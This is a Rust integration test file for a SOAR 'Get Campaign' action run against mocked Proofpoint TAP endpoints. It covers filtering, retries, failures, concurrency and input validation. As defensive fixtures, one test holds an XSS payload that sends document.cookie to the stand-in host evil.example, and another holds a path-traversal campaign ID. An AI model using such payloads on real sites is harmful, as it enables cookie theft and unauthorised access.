//! Get Campaign through the real binary against local stubs of the TAP API.

use std::time::Duration;

use crate::common::stub::{Reply, Stub};
use crate::common::*;
use serde_json::{json, Value};
use wiremock::matchers::{method, path, query_param};
use wiremock::{Mock, MockServer, ResponseTemplate, Times};

const C1: &str = "aa9b3d62-4d72-4ebc-8f39-3da3833e7038";
const C2: &str = "f3ff0874-85ef-475e-b3fe-d05f97b2ed3f";
const C3: &str = "0f1e2d3c-4b5a-4978-8796-a5b4c3d2e1f0";
const C4: &str = "9a8b7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d";

/// The sample campaign, as campaign `id`.
fn campaign(id: &str) -> Value {
    let mut c = fixture("campaign.json");
    c["id"] = json!(id);
    c
}

/// The sample campaign with members, as campaign `id`.
fn campaign_with_members(id: &str) -> Value {
    let mut c = fixture("campaign_with_members.json");
    c["id"] = json!(id);
    c
}

async fn mount_campaign(
    server: &MockServer,
    id: &str,
    status: u16,
    body: Value,
    expect: impl Into<Times>,
) {
    Mock::given(method("GET"))
        .and(path(format!("/v2/campaign/{id}")))
        .respond_with(ResponseTemplate::new(status).set_body_json(body))
        .expect(expect)
        .mount(server)
        .await;
}

async fn mount_forensics(
    server: &MockServer,
    id: &str,
    status: u16,
    body: Value,
    expect: impl Into<Times>,
) {
    Mock::given(method("GET"))
        .and(path("/v2/forensics"))
        .and(query_param("campaignId", id))
        .respond_with(ResponseTemplate::new(status).set_body_json(body))
        .expect(expect)
        .mount(server)
        .await;
}

fn request(parameters: Value, uri: &str) -> Value {
    json!({"action": "Get Campaign", "case_id": "5150", "alert_group_identifiers": ["AG-9"],
           "parameters": parameters, "configuration": config(uri)})
}

#[tokio::test]
async fn one_campaign_with_forensics() {
    let server = MockServer::start().await;
    mount_campaign(&server, C1, 200, campaign(C1), 1).await;
    mount_forensics(&server, C1, 200, fixture("forensics_campaign.json"), 1).await;
    let run = run(&request(json!({"Campaign ID": C1}), &server.uri())).await;
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert_eq!(run.envelope["metrics"]["http_requests"], 2);
    assert_no_secret(&run);
    assert_envelope!("campaign_one", run);
}

#[tokio::test]
async fn many_campaigns_in_input_order_duplicates_fetched_once() {
    let server = MockServer::start().await;
    mount_campaign(&server, C1, 200, campaign(C1), 1).await;
    mount_campaign(&server, C2, 200, campaign_with_members(C2), 1).await;
    mount_forensics(&server, C1, 200, fixture("forensics_campaign.json"), 1).await;
    mount_forensics(
        &server,
        C2,
        200,
        fixture("forensics_campaign_empty.json"),
        1,
    )
    .await;
    let ids = format!("{C2}, {C1},{C2}");
    let run = run(&request(
        json!({"campaign_id": ids, "Create Insight": "false"}),
        &server.uri(),
    ))
    .await;
    assert_eq!(run.code, 0, "{}", run.stdout);
    let order: Vec<&str> = run.envelope["json_result"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap())
        .collect();
    assert_eq!(order, [C2, C1]);
    assert_envelope!("campaign_many", run);
}

#[tokio::test]
async fn without_forensics_no_forensics_call() {
    let server = MockServer::start().await;
    mount_campaign(&server, C1, 200, campaign(C1), 1).await;
    mount_forensics(&server, C1, 200, fixture("forensics_campaign.json"), 0).await;
    let params = json!({"campaign_id": [C1], "Fetch Forensics Info": "FALSE", "create_threat_campaign_entity": false});
    let run = run(&request(params, &server.uri())).await;
    assert_eq!(run.code, 0);
    assert_eq!(run.envelope["metrics"]["http_requests"], 1);
    assert_envelope!("campaign_without_forensics", run);
}

async fn filtered(name: &str, params: Value) {
    let server = MockServer::start().await;
    mount_campaign(&server, C1, 200, campaign(C1), 1).await;
    mount_forensics(&server, C1, 200, fixture("forensics_campaign.json"), 1).await;
    let mut p = params;
    p["campaign_id"] = json!(C1);
    p["create_insight"] = json!(false);
    let run = run(&request(p, &server.uri())).await;
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert_eq!(run.envelope["errors"], json!([]));
    assert_envelope!(name, run);
}

#[tokio::test]
async fn filter_subset_case_insensitive() {
    filtered(
        "campaign_filter_subset",
        json!({"Forensic Evidence Type Filter": "URL, Redirect Chain, dns"}),
    )
    .await;
}

#[tokio::test]
async fn limit_below_the_evidence_count() {
    filtered(
        "campaign_limit_2",
        json!({"max_forensics_evidence_to_return": "2"}),
    )
    .await;
}

#[tokio::test]
async fn limit_holds_when_the_filter_names_no_type() {
    filtered(
        "campaign_limit_without_filter",
        json!({"forensic_evidence_type_filter": ",", "max_forensics_evidence_to_return": 1}),
    )
    .await;
}

#[tokio::test]
async fn filter_matching_nothing() {
    filtered(
        "campaign_filter_nothing",
        json!({"forensic_evidence_type_filter": ["mutex", "ids"]}),
    )
    .await;
}

#[tokio::test]
async fn partial_failure_reports_each_and_completes_the_rest() {
    let server = MockServer::start().await;
    mount_campaign(&server, C1, 200, campaign(C1), 1).await;
    mount_forensics(&server, C1, 200, fixture("forensics_campaign.json"), 1).await;
    mount_campaign(&server, C2, 404, json!({}), 1).await;
    mount_forensics(&server, C2, 404, json!({}), 1).await;
    mount_campaign(&server, C3, 429, json!({}), 1).await;
    mount_forensics(&server, C3, 429, json!({}), 1).await;
    // 503 is retried twice before it counts.
    mount_campaign(&server, C4, 503, json!({}), 3).await;
    mount_forensics(
        &server,
        C4,
        200,
        fixture("forensics_campaign_empty.json"),
        1,
    )
    .await;
    let params = json!({"campaign_id": [C1, C2, C3, C4], "create_insight": false});
    let run = run(&request(params, &server.uri())).await;
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert_envelope!("campaign_partial_failure", run);
}

#[tokio::test]
async fn forensics_failure_keeps_the_campaign() {
    let server = MockServer::start().await;
    mount_campaign(&server, C1, 200, campaign(C1), 1).await;
    mount_forensics(&server, C1, 500, json!({}), 1).await;
    let run = run(&request(
        json!({"campaign_id": C1, "create_insight": false}),
        &server.uri(),
    ))
    .await;
    assert_eq!(run.code, 0);
    assert_eq!(run.envelope["result_value"], true);
    assert_envelope!("campaign_forensics_failed", run);
}

#[tokio::test]
async fn all_failed() {
    let server = MockServer::start().await;
    mount_campaign(&server, C1, 404, json!({}), 1).await;
    mount_campaign(&server, C2, 404, json!({}), 1).await;
    let params = json!({"campaign_id": [C1, C2], "fetch_forensics_info": false});
    let run = run(&request(params, &server.uri())).await;
    assert_eq!(run.code, 0);
    assert_eq!(run.envelope["result_value"], false);
    assert_envelope!("campaign_all_failed", run);
}

#[tokio::test]
async fn unauthorized_fails_the_action() {
    let server = MockServer::start().await;
    mount_campaign(&server, C1, 401, json!({"message": "access denies"}), 1).await;
    mount_forensics(&server, C1, 401, json!({}), 0..=1).await;
    let run = run(&request(json!({"campaign_id": C1}), &server.uri())).await;
    assert_eq!(run.code, 1);
    assert_no_secret(&run);
    assert_envelope!("campaign_unauthorized", run);
}

#[tokio::test]
async fn unreachable_api_fails_the_action() {
    let run = run(&request(
        json!({"campaign_id": C1, "fetch_forensics_info": false}),
        "http://127.0.0.1:1",
    ))
    .await;
    assert_eq!(run.code, 1);
    assert_envelope!("campaign_unreachable", run);
}

#[tokio::test]
async fn html_in_tap_strings_is_escaped() {
    let server = MockServer::start().await;
    let mut c = campaign(C1);
    c["name"] = json!("Invoice <img src=x onerror=alert(1)>");
    c["description"] = json!("<script>document.location='https://evil.example/?c='+document.cookie</script>\nSecond line & more");
    c["families"] = json!([{"id": "1", "name": "<b>Banking</b>"}]);
    mount_campaign(&server, C1, 200, c, 1).await;
    let run = run(&request(
        json!({"campaign_id": C1, "fetch_forensics_info": false}),
        &server.uri(),
    ))
    .await;
    let content = run.envelope["insights"][0]["content"].as_str().unwrap();
    assert!(
        !content.contains("<script")
            && !content.contains("<img")
            && !content.contains("<b>Banking")
    );
    assert_envelope!("campaign_html_injection", run);
}

#[tokio::test]
async fn drifted_and_unknown_fields_are_tolerated_and_kept() {
    let server = MockServer::start().await;
    let drifted = json!({
        "id": C1, "name": "Drifted", "description": null, "startDate": 1616544060000u64,
        "notable": "false", "actors": ["TA511"], "families": [{"id": "f", "name": "Stealer", "extra": 1}],
        "malware": null, "brandsNew": [{"name": "kept as is"}], "futureField": {"nested": [1, 2]}
    });
    let forensics = json!({"generated": 5, "reports": [{"scope": "CAMPAIGN", "id": C1, "name": "Drifted",
    "forensics": [
        {"type": "URL", "display": "no what here", "malicious": "true"},
        {"type": "network", "display": "port as string", "malicious": 1, "time": "0",
         "what": {"ip": "192.0.2.1", "port": "443", "blacklisted": 1}},
        {"type": "file", "display": "blacklisted as bool", "malicious": false,
         "what": {"sha256": "ab", "path": "C:\\x", "blacklisted": true}, "platforms": "not a list"}
    ]}]});
    mount_campaign(&server, C1, 200, drifted, 1).await;
    mount_forensics(&server, C1, 200, forensics, 1).await;
    let run = run(&request(json!({"campaign_id": C1}), &server.uri())).await;
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert_eq!(
        run.envelope["json_result"][0]["futureField"],
        json!({"nested": [1, 2]})
    );
    assert_envelope!("campaign_drifted", run);
}

async fn invalid(name: &str, parameters: Value) {
    let run = run(&request(parameters, "http://127.0.0.1:1")).await;
    assert_eq!(run.code, 1, "{name}: {}", run.stdout);
    assert_eq!(
        run.envelope["errors"][0]["code"], "invalid_parameter",
        "{name}"
    );
    assert_eq!(
        run.envelope["metrics"]["http_requests"], 0,
        "{name}: validated before any call"
    );
    assert_envelope!(name, run);
}

#[tokio::test]
async fn invalid_parameters() {
    invalid(
        "campaign_invalid_missing_id",
        json!({"Create Insight": true}),
    )
    .await;
    invalid("campaign_invalid_empty_id", json!({"campaign_id": " , "})).await;
    invalid(
        "campaign_invalid_not_uuid",
        json!({"campaign_id": format!("{C1}, ../../v2/people/vap")}),
    )
    .await;
    invalid(
        "campaign_invalid_limit_low",
        json!({"campaign_id": C1, "Max Forensics Evidence To Return": 0}),
    )
    .await;
    invalid(
        "campaign_invalid_limit_high",
        json!({"campaign_id": C1, "max_forensics_evidence_to_return": "5000"}),
    )
    .await;
    invalid(
        "campaign_invalid_limit_text",
        json!({"campaign_id": C1, "max_forensics_evidence_to_return": "fifty"}),
    )
    .await;
    invalid(
        "campaign_invalid_type",
        json!({"campaign_id": C1, "forensic_evidence_type_filter": "url, pdf"}),
    )
    .await;
    invalid(
        "campaign_invalid_boolean",
        json!({"campaign_id": C1, "fetch_forensics_info": "yes"}),
    )
    .await;
    invalid(
        "campaign_invalid_unknown_key",
        json!({"campaign_id": C1, "Max Results": 5}),
    )
    .await;
}

#[tokio::test]
async fn requests_in_flight_never_exceed_max_concurrency() {
    let ids: Vec<String> = (0..12)
        .map(|i| format!("00000000-0000-4000-8000-{i:012}"))
        .collect();
    let stub = Stub::start(|target| {
        let delay = Duration::from_millis(60);
        if target.starts_with("/v2/forensics") {
            Reply::json(200, r#"{"generated":"x","reports":[]}"#).after(delay)
        } else {
            let id = target.rsplit('/').next().unwrap().to_owned();
            let body = json!({"id": id, "name": format!("Campaign {id}")}).to_string();
            Reply::json(200, body).after(delay)
        }
    })
    .await;
    let mut cfg = config(&stub.uri);
    cfg["max_concurrency"] = json!(3);
    let request = json!({"action": "get_campaign", "parameters": {"campaign_id": ids, "create_insight": false},
                         "configuration": cfg});
    let run = run(&request).await;
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert_eq!(stub.requests().len(), 24);
    assert!(
        stub.peak() <= 3,
        "peak {} in flight with max_concurrency 3",
        stub.peak()
    );
    assert!(
        stub.peak() >= 2,
        "requests did run concurrently (peak {})",
        stub.peak()
    );
    let order: Vec<&str> = run.envelope["json_result"]
        .as_array()
        .unwrap()
        .iter()
        .map(|c| c["id"].as_str().unwrap())
        .collect();
    assert_eq!(order, ids.iter().map(String::as_str).collect::<Vec<_>>());
}

/// With no Campaign ID, the THREATCAMPAIGN entities in scope: one made by this integration (its
/// `campaign_id` property), one whose identifier is the campaign id (upper-cased by SOAR).
#[tokio::test]
async fn campaign_ids_come_from_the_entities_in_scope() {
    let server = MockServer::start().await;
    mount_campaign(&server, C1, 200, campaign(C1), 1).await;
    mount_campaign(&server, C2, 200, campaign(C2), 1).await;
    let mut request = request(json!({"Fetch Forensics Info": false}), &server.uri());
    request["target_entities"] = json!([
        {"identifier": "TORDAL \"2203_78291\"", "entity_type": "THREATCAMPAIGN",
         "additional_properties": {"campaign_id": C1}},
        {"identifier": C2.to_ascii_uppercase(), "entity_type": "THREATCAMPAIGN"},
        {"identifier": "NOT A CAMPAIGN", "entity_type": "THREATCAMPAIGN"},
        {"identifier": "HTTPS://EXAMPLE.COM/", "entity_type": "DestinationURL"}
    ]);
    let run = run(&request).await;
    assert_eq!(run.code, 0, "{}", run.stdout);
    assert!(run.envelope["output_message"]
        .as_str()
        .unwrap()
        .starts_with("Successfully found information for the following campaigns in ProofPoint TAP (ids from the entities in scope): "));
    assert_envelope!("campaign_from_entities", run);
}
